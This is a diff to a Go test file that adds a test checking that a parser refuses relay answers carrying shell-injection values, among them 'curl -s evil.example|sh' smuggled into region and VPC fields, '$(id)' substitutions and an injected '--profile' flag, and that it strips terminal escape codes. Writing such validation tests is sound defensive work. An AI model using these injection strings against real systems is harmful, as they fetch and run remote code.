@@ -147,6 +147,30 @@ func TestReadRefusesWhatIsNoAnswer(t *testing.T) {
 	}
 }
 
+// What a relay says ends up in commands for a person to run.
+func TestReadRefusesWhatIsNoPlace(t *testing.T) {
+	t.Parallel()
+	for _, answer := range []string{
+		`{"place":{"region":"eu-west-2; curl -s evil.example|sh #"}}`,
+		`{"place":{"region":"a.evil.example"}}`,
+		`{"place":{"vpc":"vpc-0abc;curl${IFS}evil.example|sh;"}}`,
+		`{"place":{"instance":"i-0abc\n"}}`,
+		`{"place":{"subnet":"$(id)"}}`,
+		`{"place":{"security_groups":["sg-0","sg-0 --profile prod"]}}`,
+		`{"place":{"security_groups":["sg-0"` + strings.Repeat(`,"sg-0"`, 64) + `]}}`,
+		`{"place":{"private_addr":"fe80::1%$(id)"}}`,
+		`{"addresses":["10.0.0.1","fe80::1%$(id)"]}`,
+	} {
+		if s, err := Read([]byte(answer)); err == nil {
+			t.Errorf("%s: %+v, want it refused", answer, s)
+		}
+	}
+	s, err := Read([]byte(`{"name":"a\u001b[2J","name_error":"x\ny","place":{"region":"eu-west-1","vpc":"vpc-0abc"},"metadata_error":"\u0007"}`))
+	if err != nil || s.Name != "a[2J" || s.NameError != "x y" || s.MetadataError != "" || s.Place.VPC != "vpc-0abc" {
+		t.Errorf("%+v, %v, want its texts printable", s, err)
+	}
+}
+
 func FuzzRead(f *testing.F) {
 	f.Add([]byte(`{"name":"a","addresses":["10.0.0.53"],"place":{"region":"eu-west-1","private_addr":"10.0.0.10"}}`))
 	f.Fuzz(func(t *testing.T, answer []byte) {
